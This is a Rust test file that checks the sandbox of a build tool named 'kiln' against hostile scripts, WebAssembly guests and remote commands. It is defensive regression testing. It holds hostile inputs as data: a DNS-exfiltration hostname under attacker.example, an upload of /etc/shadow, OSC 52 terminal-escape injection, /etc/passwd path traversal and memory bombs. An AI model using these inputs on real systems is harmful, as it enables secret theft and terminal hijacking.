//! Issue 8: the classes of sandbox holes an adversarial review found, each attacked
//! from the attacker's side (a hostile script, a hostile guest from tests/guests/, a
//! hostile remote command on a real loopback sshd). Every test here failed on the
//! code before the fix.

use std::path::Path;
use std::process::{Command, Output};

use kiln::wasm::{LogLevel, WasmEngine, WasmError, WasmLimits};

use crate::cli::{Project, kiln_cmd, text};
use crate::peers::sshd::Sshd;
use crate::wasm::{Host, assert_refused, engine, guest, guest_dir, limits, read_grant};

/// Runs `cmd` and returns its output with the child's peak RSS in bytes, so a test
/// can show kiln never held what an attacker made it read or build. The peak is
/// sampled from `/proc/<pid>/status` (VmHWM, the high-water mark of the child's own
/// address space) while it runs: wait4's `ru_maxrss` would report this test process's
/// peak instead, since the child is spawned sharing our address space until exec.
fn run_measured(mut cmd: Command) -> (Output, u64) {
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn kiln");
    let status_file = format!("/proc/{}/status", child.id());
    // Drain the pipes on threads so a chatty child never blocks.
    let mut so = child.stdout.take().unwrap();
    let mut se = child.stderr.take().unwrap();
    let t1 = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut so, &mut b).ok();
        b
    });
    let t2 = std::thread::spawn(move || {
        let mut b = Vec::new();
        std::io::Read::read_to_end(&mut se, &mut b).ok();
        b
    });
    let hwm = || -> Option<u64> {
        let s = std::fs::read_to_string(&status_file).ok()?;
        let line = s.lines().find(|l| l.starts_with("VmHWM:"))?;
        let kb: u64 = line.split_whitespace().nth(1)?.parse().ok()?;
        Some(kb * 1024)
    };
    let mut peak = 0;
    let status = loop {
        // VmHWM only grows while the address space lives; read it before reaping.
        if let Some(v) = hwm() {
            peak = peak.max(v);
        }
        if let Some(st) = child.try_wait().expect("wait") {
            break st;
        }
        std::thread::sleep(std::time::Duration::from_millis(1));
    };
    let out = Output {
        status,
        stdout: t1.join().unwrap(),
        stderr: t2.join().unwrap(),
    };
    (out, peak)
}

/// Runs `cmd`, killing it if it is still running after `limit` (a test of a bound
/// must fail, not hang, when the bound is missing).
fn output_within(mut cmd: Command, limit: std::time::Duration) -> Output {
    let mut child = cmd
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("spawn kiln");
    let started = std::time::Instant::now();
    while child.try_wait().expect("wait").is_none() {
        if started.elapsed() > limit {
            let _ = child.kill();
            let out = child.wait_with_output().unwrap();
            panic!("still running after {limit:?}:\n{}", text(&out));
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    child.wait_with_output().unwrap()
}

/// A script input ends with exit 2 and a message, never a signal.
fn assert_usage_error(out: &Output, expect: &str) {
    assert_eq!(
        out.status.code(),
        Some(2),
        "kiln must end with exit 2, not crash:\n{}",
        text(out)
    );
    let all = text(out);
    assert!(all.contains(expect), "expected {expect:?} in:\n{all}");
}

// ---------------------------------------------------------------------------------
// Class 1: import cycles and depth.

#[test]
fn import_cycles_and_deep_imports_are_errors_not_crashes() {
    let p = Project::new();
    p.write("a.rhai", r#"import "b" as b;"#);
    p.write("b.rhai", r#"import "a" as a;"#);
    p.write(
        "build.rhai",
        r#"import "a" as a;
source("box", ssh_host(#{ host: "h", ssh: #{ user: "root", host_key: "SHA256:x" } }));
build("web", #{ sources: ["box"], steps: [] });"#,
    );
    for cmd in ["validate", "inspect", "build"] {
        let out = p.kiln(&[cmd, "."]);
        assert_usage_error(
            &out,
            "import cycle: build.rhai -> a.rhai -> b.rhai -> a.rhai",
        );
    }

    // A script importing itself.
    p.write(
        "build.rhai",
        "import \"build\" as me;\nbuild(\"web\", #{ sources: [] });",
    );
    assert_usage_error(
        &p.kiln(&["validate", "."]),
        "import cycle: build.rhai -> build.rhai",
    );

    // A long chain, each module recursing as deep as Rhai allows before importing the
    // next: bounded by depth, and no stack overflow on the way.
    for i in 0..40 {
        p.write(
            &format!("m{i}.rhai"),
            &format!(
                "fn down(n) {{ if n > 0 {{ return down(n - 1) + 1; }} import \"m{}\" as next; 0 }}\ndown(60);",
                i + 1
            ),
        );
    }
    p.write("m40.rhai", "42");
    p.write(
        "build.rhai",
        "import \"m0\" as m;\nbuild(\"web\", #{ sources: [] });",
    );
    assert_usage_error(&p.kiln(&["validate", "."]), "nested more than 16 deep");
}

// ---------------------------------------------------------------------------------
// Class 2: the compiled-module cache.

fn cwasm_files(dir: &Path) -> Vec<std::path::PathBuf> {
    let mut v: Vec<_> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|e| e == "cwasm"))
        .collect();
    v.sort();
    v
}

/// Someone who can write the cache plants the native code kiln compiled for another
/// component (`spin`, which loops forever) under `hello`'s name: kiln must notice and
/// run hello, not the planted code.
#[tokio::test(flavor = "multi_thread")]
async fn a_planted_cache_artifact_is_not_run() {
    let cache = tempfile::tempdir().unwrap();
    let hello = guest("hello_provisioner");
    let spin = guest("spin");
    let e = WasmEngine::new(Some(cache.path().to_path_buf())).unwrap();
    e.load(&hello).unwrap();
    let hello_file = cwasm_files(cache.path()).pop().unwrap();
    e.load(&spin).unwrap();
    let spin_file = cwasm_files(cache.path())
        .into_iter()
        .find(|f| *f != hello_file)
        .unwrap();
    std::fs::rename(&spin_file, &hello_file).unwrap();

    let fresh = WasmEngine::new(Some(cache.path().to_path_buf())).unwrap();
    let p = fresh.load(&hello).unwrap();
    let host = Host::new();
    let lim = WasmLimits {
        timeout: std::time::Duration::from_secs(20),
        ..limits()
    };
    let out = p
        .run(
            r#"{"command":"echo ok"}"#,
            host.env("#{ machine: true }"),
            lim,
        )
        .await
        .expect("the planted code must not run (spin would hit the deadline)");
    assert_eq!(out, "hello world: ok");
}

/// A cache directory other users can write is not used at all, and a cache file
/// another user could have written is not read.
#[tokio::test(flavor = "multi_thread")]
async fn a_shared_cache_directory_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let tmp = tempfile::tempdir().unwrap();
    let shared = tmp.path().join("shared");
    std::fs::create_dir(&shared).unwrap();
    std::fs::set_permissions(&shared, std::fs::Permissions::from_mode(0o777)).unwrap();
    let e = WasmEngine::new(Some(shared.clone())).unwrap();
    assert_eq!(
        e.cache_dir(),
        None,
        "a world-writable cache must not be used"
    );
    e.load(&guest("hello_provisioner")).unwrap();
    assert!(cwasm_files(&shared).is_empty());

    // A file of the right name owned by another user (root chowns it to nobody).
    let mine = tmp.path().join("mine");
    let e = WasmEngine::new(Some(mine.clone())).unwrap();
    e.load(&guest("hello_provisioner")).unwrap();
    let f = cwasm_files(&mine).pop().unwrap();
    let ino = std::fs::metadata(&f)
        .map(|m| std::os::unix::fs::MetadataExt::ino(&m))
        .unwrap();
    std::os::unix::fs::chown(&f, Some(65534), Some(65534)).unwrap();
    let again = WasmEngine::new(Some(mine.clone())).unwrap();
    again.load(&guest("hello_provisioner")).unwrap();
    let f2 = cwasm_files(&mine).pop().unwrap();
    assert_ne!(
        std::fs::metadata(&f2)
            .map(|m| std::os::unix::fs::MetadataExt::ino(&m))
            .unwrap(),
        ino,
        "a file owned by another user must be replaced, not loaded"
    );
}

// ---------------------------------------------------------------------------------
// Class 3: secrets in streams (guest side; the SSH side is below).

const PEM: &str = "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gtZW\nQyNTUxOQAAACBvY2tlZC1rZXktZm9yLWtpbG4tdGVzdHMtb25seS0xMjM0NQAAAJg0xQ==\n-----END OPENSSH PRIVATE KEY-----\n";

/// Parts of PEM no output may show.
fn pem_parts() -> Vec<&'static str> {
    PEM.lines()
        .skip(1)
        .take(2)
        .flat_map(|l| [&l[..30], &l[30..]])
        .collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_cannot_print_a_secret_in_pieces() {
    let mut host = Host::new();
    host.secrets.insert("KEY".into(), PEM.into());
    let out = host
        .run(
            "term_escape",
            serde_json::json!({ "secret": "KEY" }),
            r#"#{ secrets: ["KEY"] }"#,
            limits(),
        )
        .await
        .expect("runs");
    let logs = host.logs.lock().unwrap().clone();
    let all: String = logs
        .iter()
        .map(|(_, m)| format!("{m}\n"))
        .collect::<String>()
        + out.as_str();
    for part in pem_parts() {
        assert!(!all.contains(part), "{part:?} leaked:\n{all}");
    }
    assert!(all.contains("<secret:KEY>"), "{all}");
}

// ---------------------------------------------------------------------------------
// Class 4: name resolution.

#[tokio::test(flavor = "multi_thread")]
async fn a_guest_resolves_only_granted_names_and_every_lookup_is_audited() {
    let host = Host::new();
    let exfil = "exfil-6b696c6e2d7365637265742d3432.attacker.example";
    let out = host
        .run(
            "dns_exfil",
            serde_json::json!({ "names": ["localhost", exfil, "LOCALHOST."] }),
            r#"#{ net: ["localhost:8080"] }"#,
            limits(),
        )
        .await
        .expect("runs");
    let got: std::collections::HashMap<&str, &str> =
        out.split(';').filter_map(|kv| kv.split_once('=')).collect();
    assert!(got["localhost"].contains("127.0.0.1"), "{out}");
    assert!(got["LOCALHOST."].contains("127.0.0.1"), "{out}");
    assert!(got[exfil].contains("access-denied"), "{out}");
    assert_eq!(got[&*format!("std:{exfil}")], "ERR", "{out}");
    let audits = host.audits();
    assert!(
        audits
            .iter()
            .any(|(c, o, r)| c == "net" && o.starts_with(exfil) && r == "denied"),
        "{audits:?}"
    );
    assert!(
        audits
            .iter()
            .any(|(c, o, r)| c == "net" && o == "localhost: resolve" && r.starts_with("ok (")),
        "{audits:?}"
    );
}

// ---------------------------------------------------------------------------------
// Class 5: host-call argument sizes.

#[tokio::test(flavor = "multi_thread")]
async fn huge_host_call_arguments_are_refused_before_the_machine() {
    let host = Host::new();
    let lim = WasmLimits {
        memory_bytes: 1 << 30,
        ..limits()
    };
    let out = host
        .run(
            "arg_bomb",
            serde_json::json!({ "size": 80 << 20 }),
            "#{ machine: true }",
            lim,
        )
        .await
        .expect("the guest gets errors back and carries on");
    for what in [
        "exec: the command is",
        "env: the environment is",
        "path: the path is",
        "contents: the data to write is",
    ] {
        assert!(out.contains(what), "{what:?} missing in:\n{out}");
    }
    assert_eq!(out.matches("kiln accepts at most").count(), 4, "{out}");
    assert!(
        host.machine.execs.lock().unwrap().is_empty(),
        "a command reached the machine"
    );
    assert!(
        host.machine.writes.lock().unwrap().is_empty(),
        "a file reached the machine"
    );
    // Audited with the size only.
    let audits = host.audits();
    assert!(
        audits.iter().any(|(c, o, r)| c == "machine"
            && o == "exec (refused)"
            && r.contains("the command is 83886085 bytes")),
        "{audits:?}"
    );
    assert!(
        audits
            .iter()
            .all(|(_, o, r)| o.len() < 1024 && r.len() < 1024),
        "{audits:?}"
    );
}

// ---------------------------------------------------------------------------------
// Class 6: terminal control from a guest (the SSH side is below).

#[tokio::test(flavor = "multi_thread")]
async fn guest_log_lines_reach_the_log_sink_redacted_and_whole() {
    // The log sink gets the raw text; the UI escapes it (see the build test below).
    let host = Host::new();
    host.run(
        "term_escape",
        serde_json::json!({}),
        r#"#{ secrets: ["KEY"] }"#,
        limits(),
    )
    .await
    .expect("runs");
    let logs = host.logs.lock().unwrap().clone();
    assert!(
        logs.iter()
            .any(|(l, m)| *l == LogLevel::Info && m.starts_with("log \x1b]52")),
        "{logs:?}"
    );
}

// ---------------------------------------------------------------------------------
// Class 7: grants checked on the resolved path.

#[tokio::test(flavor = "multi_thread")]
async fn grants_that_alias_the_root_are_refused() {
    let tmp = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink("/", tmp.path().join("root-link")).unwrap();
    for (grant, path) in [
        (
            Path::new("/proc/self/root").to_path_buf(),
            "/proc/self/root/etc/hostname".to_string(),
        ),
        (
            tmp.path().join("root-link"),
            format!("{}/etc/hostname", tmp.path().join("root-link").display()),
        ),
    ] {
        let host = Host::new();
        let r = host
            .run(
                "read_absolute",
                serde_json::json!({ "path": path }),
                &read_grant(&grant),
                limits(),
            )
            .await;
        let msg = assert_refused(&r);
        assert!(matches!(r, Err(WasmError::Link(_))), "{msg}");
        assert!(
            msg.contains("whole file system") || msg.contains("/proc"),
            "{msg}"
        );
    }
}

#[test]
fn validate_refuses_and_inspect_resolves_path_grants() {
    let p = Project::new();
    let real = tempfile::tempdir().unwrap();
    std::os::unix::fs::symlink(real.path(), p.path().join("link-to-real")).unwrap();
    let link = p.path().join("link-to-real").display().to_string();
    let script = format!(
        r#"source("box", ssh_host(#{{ host: "h", ssh: #{{ user: "root", host_key: "SHA256:x" }} }}));
build("web", #{{ sources: ["box"], steps: [
    shell(["true"], #{{ allow: #{{ read: ["/proc/self/root"] }} }}),
    shell(["true"], #{{ allow: #{{ read: [{link:?}] }} }}),
]}});"#
    );
    p.write("build.rhai", &script);
    let out = p.kiln(&["validate", "."]);
    assert_usage_error(&out, "allow.read \"/proc/self/root\" is refused");
    assert!(text(&out).contains("build.rhai:3:"), "{}", text(&out));
    let out = p.kiln(&["inspect", "."]);
    let s = String::from_utf8_lossy(&out.stdout);
    assert!(s.contains("read(/proc/self/root) -> refused"), "{s}");
    let resolved = real.path().canonicalize().unwrap();
    assert!(
        s.contains(&format!("read({link}) -> {}", resolved.display())),
        "{s}"
    );
}

// ---------------------------------------------------------------------------------
// Class 8: evaluation bounds and one size limit for components.

#[test]
fn script_memory_and_time_are_bounded() {
    let p = Project::new();
    // 160 strings of 8 MiB, each within Rhai's per-value limit: 1.25 GiB together.
    let mut script = String::from("let s = \"x\"; for i in 0..23 { s += s; }\n");
    for i in 0..160 {
        script.push_str(&format!("let v{i} = s + {i};\n"));
    }
    script.push_str("build(\"web\", #{ sources: [] });\n");
    p.write("build.rhai", &script);
    let (out, rss) = run_measured(kiln_cmd(p.path(), &["validate", "."]));
    assert_usage_error(&out, "more than 512 MiB");
    assert!(rss < 1 << 30, "peak RSS {} MiB", rss >> 20);

    // An operation that copies a 16 MiB string each step: bounded in wall time.
    p.write(
        "build.rhai",
        "let s = \"x\"; for i in 0..23 { s += s; }\nloop { let t = s + \"y\"; }",
    );
    let mut cmd = kiln_cmd(p.path(), &["validate", "."]);
    cmd.env("KILN_DECLARE_TIMEOUT", "3s");
    let out = output_within(cmd, std::time::Duration::from_secs(120));
    assert_usage_error(&out, "ran for more than 3s");
}

#[test]
fn oversized_components_are_refused_without_being_read() {
    let p = Project::new();
    let big = p.path().join("provisioners/big.wasm");
    std::fs::create_dir_all(big.parent().unwrap()).unwrap();
    std::fs::File::create(&big)
        .unwrap()
        .set_len(300 << 20)
        .unwrap(); // sparse
    let (out, rss) = run_measured(kiln_cmd(
        p.path(),
        &["module", "inspect", "provisioners/big.wasm"],
    ));
    assert_usage_error(&out, "larger than the 256 MiB limit");
    assert!(
        rss < 150 << 20,
        "peak RSS {} MiB: the file was read",
        rss >> 20
    );

    p.write(
        "build.rhai",
        r#"source("box", ssh_host(#{ host: "h", ssh: #{ user: "root", host_key: "SHA256:x" } }));
build("web", #{ sources: ["box"], steps: [ wasm("provisioners/big.wasm", #{}) ] });"#,
    );
    let (out, rss) = run_measured(kiln_cmd(p.path(), &["inspect", "."]));
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    assert!(
        text(&out).contains("larger than the 256 MiB limit"),
        "{}",
        text(&out)
    );
    assert!(rss < 150 << 20, "peak RSS {} MiB", rss >> 20);
    let (out, _) = run_measured(kiln_cmd(p.path(), &["validate", "."]));
    assert_usage_error(&out, "larger than");
}

// ---------------------------------------------------------------------------------
// Class 9: denials that name the capability, and validate's import check.

#[test]
fn validate_checks_component_imports_against_grants() {
    let p = Project::new();
    for g in ["secret_steal", "http_import"] {
        std::fs::create_dir_all(p.path().join("provisioners")).unwrap();
        std::fs::copy(
            guest_dir().join(format!("{g}.wasm")),
            p.path().join(format!("provisioners/{g}.wasm")),
        )
        .unwrap();
    }
    p.write(
        "build.rhai",
        r#"source("box", ssh_host(#{ host: "h", ssh: #{ user: "root", host_key: "SHA256:x" } }));
build("web", #{ sources: ["box"], steps: [
    wasm("provisioners/secret_steal.wasm", #{ name: "X" }),
    wasm("provisioners/http_import.wasm", #{}, #{ allow: #{ net: ["example.com"] } }),
] });"#,
    );
    let out = p.kiln(&["validate", "."]);
    assert_usage_error(&out, "needs the `secrets` capability");
    let all = text(&out);
    assert!(all.contains("allow: #{ secrets: [\"NAME\"] }"), "{all}");
    assert!(all.contains("build.rhai:3:"), "{all}");
    assert!(
        all.contains("wasi:http/")
            && all.contains("kiln does not provide")
            && all.contains("no grant can make it link"),
        "{all}"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unsupported_interface_suggests_no_grant() {
    let host = Host::new();
    let err = engine()
        .load(&guest("http_import"))
        .unwrap()
        .run("{}", host.env(r#"#{ net: ["example.com"] }"#), limits())
        .await
        .unwrap_err();
    let msg = err.to_string();
    assert!(
        msg.contains("kiln does not provide, so no grant can make it link"),
        "{msg}"
    );
    assert!(!msg.contains("add allow"), "{msg}");
}

// ---------------------------------------------------------------------------------
// The SSH side: a hostile remote command, a real sshd, `kiln build`.

#[test]
fn remote_output_cannot_leak_secrets_or_drive_the_terminal() {
    let sshd = Sshd::start();
    let p = Project::new();
    let pw = "correct-horse-battery-staple-42";
    let script = r#"
let pem = secret("KILN_TEST_PEM");
let pw = secret("KILN_TEST_PW");
source("box", ssh_host(#{ host: "127.0.0.1", ssh: {SSH} }));
build("web", #{ sources: ["box"], steps: [
    shell([
        "printf '%s' \"$PEM\"",
        "printf '%s' \"$PEM\" | sed 's/^/    /'",
        "printf '%s' \"$PEM\" | sed -n 2p",
        "head -c 65530 /dev/zero | tr '\\0' x; printf '%s\\n' \"$PW\"",
        "printf 'split %s' \"${PW%battery*}\"; sleep 0.3; printf '%s end\\n' \"battery${PW#*battery}\"",
        "printf 'osc52 \\033]52;c;cGF5bG9hZA==\\007 title \\033]0;owned\\007 bell \\007 cr \\rFAKE: ok \\302\\2332J\\n'",
        "printf 'stderr \\033]0;owned\\007\\n' >&2",
    ], #{ env: #{ PEM: pem, PW: pw } }),
    |m| { m.upload("/etc/shadow", "/tmp/kiln-shadow-should-not-exist"); },
]});
"#;
    p.script(&sshd, script);
    let out = kiln_cmd(p.path(), &["build", "."])
        .env("KILN_TEST_PEM", PEM)
        .env("KILN_TEST_PW", pw)
        .env("KILN_LOG", "debug")
        .output()
        .unwrap();
    // The closure's upload is refused: exit 1, naming the capability and the allow line.
    assert_eq!(out.status.code(), Some(1), "{}", text(&out));
    let all = text(&out);
    assert!(all.contains(r#"read("/etc/shadow")"#), "{all}");
    assert!(all.contains(r#"allow: #{ read: ["/etc"] }"#), "{all}");
    assert!(!Path::new("/tmp/kiln-shadow-should-not-exist").exists());
    // No part of either secret, however it was cut.
    for part in pem_parts()
        .into_iter()
        .chain(["correct-horse", "battery-staple"])
    {
        assert!(!all.contains(part), "{part:?} leaked:\n{all}");
    }
    assert!(all.contains("split <secret:KILN_TEST_PW> end"), "{all}");
    // No control byte from the remote side reaches the terminal; the text is shown.
    let stdout = String::from_utf8_lossy(&out.stdout);
    for (i, line) in stdout.lines().enumerate() {
        assert!(
            !line.chars().any(|c| c.is_control() && c != '\t'),
            "line {i} has a raw control character: {line:?}"
        );
    }
    assert!(
        stdout.contains("osc52 \\x1b]52;c;cGF5bG9hZA==\\x07"),
        "{stdout}"
    );
    assert!(stdout.contains("\\rFAKE: ok \\u{9b}2J"), "{stdout}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        !stderr.contains('\x1b') && !stderr.contains('\x07'),
        "{stderr}"
    );

    // --machine-readable: the same text as JSON, with nothing a terminal acts on raw.
    let out = kiln_cmd(p.path(), &["build", "--machine-readable", "."])
        .env("KILN_TEST_PEM", PEM)
        .env("KILN_TEST_PW", pw)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        !stdout.chars().any(|c| c.is_control() && c != '\n'),
        "{stdout}"
    );
    assert!(stdout.contains("\\u001b]52;c;"), "{stdout}");
}

/// A command too long for an SSH exec request is refused with a clear error, and the
/// session survives for the next command.
#[test]
fn an_oversized_command_is_refused_and_the_session_survives() {
    let sshd = Sshd::start();
    let p = Project::new();
    let script = r#"
source("box", ssh_host(#{ host: "127.0.0.1", ssh: {SSH} }));
build("web", #{ sources: ["box"], steps: [
    |m| {
        let big = "x";
        for i in 0..19 { big += big; }
        let msg = "";
        try { m.exec("echo " + big); } catch (e) { msg = `${e}`; }
        m.write_file("REMOTE/refused.txt", msg);
        m.exec("echo alive > REMOTE/alive");
    },
]});
"#
    .replace("REMOTE", p.remote.path().to_str().unwrap());
    p.script(&sshd, &script);
    let out = p.kiln(&["build", "."]);
    assert_eq!(out.status.code(), Some(0), "{}", text(&out));
    let refused = std::fs::read_to_string(p.remote.path().join("refused.txt")).unwrap();
    assert!(refused.contains("the command is 524293 bytes"), "{refused}");
    assert!(
        p.remote.path().join("alive").exists(),
        "the session did not survive"
    );
}

/// Every hostile script above, through `validate` and `build`: an error and exit 2,
/// never a crash.
#[test]
fn hostile_scripts_never_crash_validate_or_build() {
    let cases: Vec<(&str, String)> = vec![
        ("self import", "import \"build\" as b;".into()),
        ("bad import path", "import \"/etc/passwd\" as p;".into()),
        ("dotdot import", "import \"../../etc/passwd\" as p;".into()),
        ("recursion", "fn f(n) { f(n + 1) } f(0);".into()),
        ("string bomb", "let s = \"x\"; loop { s += s; }".into()),
        ("array bomb", "let a = [1]; loop { a += a; }".into()),
        ("map bomb", "let m = #{}; for i in 0..100000 { m[`k${i}`] = i; }".into()),
        ("deep nesting", format!("let x = {}1{};", "[".repeat(500), "]".repeat(500))),
        ("bad grant", "build(\"w\", #{ sources: [], steps: [shell([\"x\"], #{ allow: #{ read: [\"/\"] } })] });".into()),
        ("nul path", "build(\"w\", #{ sources: [], steps: [file(\"a\\0b\", \"/x\")] });".into()),
        ("huge var", "let s = \"x\"; for i in 0..24 { s += s; } var(s, s);".into()),
        ("throw", "throw 42;".into()),
    ];
    for (what, script) in cases {
        let p = Project::new();
        p.write("build.rhai", &script);
        for cmd in ["validate", "build"] {
            let out = kiln_cmd(p.path(), &[cmd, "."])
                .env("KILN_DECLARE_TIMEOUT", "20s")
                .output()
                .unwrap();
            assert_eq!(
                out.status.code(),
                Some(2),
                "{what} ({cmd}) must end with exit 2:\n{}",
                text(&out)
            );
        }
    }
}
